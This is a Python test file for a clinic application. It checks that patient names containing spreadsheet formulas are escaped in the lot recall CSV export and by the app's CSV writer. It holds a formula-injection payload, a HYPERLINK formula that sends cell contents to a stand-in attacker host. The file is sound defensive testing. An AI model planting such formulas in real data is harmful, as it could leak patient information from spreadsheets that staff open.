"""A formula imported as a patient's name comes back escaped in every CSV the app writes (the lot recall list
is the one today), and the CSV writer escapes what defusedcsv leaves alone (a leading tab or carriage return)."""

from __future__ import annotations

import csv
import io

import sqlalchemy as sa

from clinic.exports import CsvWriter
from clinic.extensions import db
from clinic.interop.imports.patients import import_patients
from clinic.patients.models import Patient
from tests.factories import make_user
from tests.interop.imports.helpers import csv_bytes, row
from tests.treatments.factories import catalog, make_lot, recorded_session

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_an_imported_formula_name_is_escaped_in_the_lot_recall_csv(app, login_as):
    clinic = catalog()
    db.session.commit()
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    report = import_patients(csv_bytes(row("F1", last_name=quoted, first_name="@SUM(1+1)")), clinic, dry_run=False)
    assert report.counts["create"] == 1, report.rows
    patient = db.session.scalar(sa.select(Patient).where(Patient.external_id == "F1"))
    assert patient.last_name == FORMULA  # stored as given: it is the patient's record
    derm = make_user("dermatologist", clinic=clinic)
    lot = make_lot(lot_number="LOT-F")
    recorded_session(patient, derm, lot)
    db.session.commit()
    client, _ = login_as(user=derm)
    export = client.get(f"/admin/catalog/lots/{lot.id}/patients.csv")
    assert export.status_code == 200 and export.mimetype == "text/csv"
    [header, cells] = list(csv.reader(io.StringIO(export.text)))
    by_column = dict(zip(header, cells, strict=True))
    assert by_column["last_name"] == "'" + FORMULA
    assert by_column["first_name"] == "'@SUM(1+1)"


def test_the_writer_escapes_every_dangerous_first_character_and_leaves_numbers():
    out = io.StringIO()
    cells = ["=1+1", "+1", "-cmd", "@x", "\tTAB", "\rCR", "|pipe", "%x", "-12.5", "Ana", None, 3]
    CsvWriter(out).writerow(cells)
    [written] = list(csv.reader(io.StringIO(out.getvalue())))
    assert written[:8] == ["'=1+1", "'+1", "'-cmd", "'@x", "'\tTAB", "'\rCR", "'\\|pipe", "'%x"]
    assert written[8:] == ["-12.5", "Ana", "", "3"]
